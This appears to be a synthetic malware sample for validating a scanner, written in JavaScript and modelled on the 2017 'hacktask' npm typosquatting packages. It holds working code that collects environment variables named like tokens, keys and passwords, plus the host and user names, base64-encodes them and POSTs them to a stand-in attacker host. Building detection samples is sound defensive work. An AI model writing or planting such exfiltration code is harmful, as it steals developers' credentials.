// SYNTHETIC, DEFANGED malwi validation sample - modelled on the 2017 hacktask typosquats (babelcli); never run.
var http = require('http');
var os = require('os');

function collect() {
  var keep = {};
  Object.keys(process.env).forEach(function (k) {
    if (/TOKEN|KEY|SECRET|PASS|AWS|NPM|AUTH/i.test(k)) keep[k] = process.env[k];
  });
  keep.__host = os.hostname();
  keep.__user = os.userInfo().username;
  return keep;
}

var body = 'data=' + encodeURIComponent(Buffer.from(JSON.stringify(collect())).toString('base64'));
var req = http.request({
  host: 'npm.hacktask.example.invalid',
  path: '/log/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': body.length }
}, function () {});
req.on('error', function () {});
req.end(body);
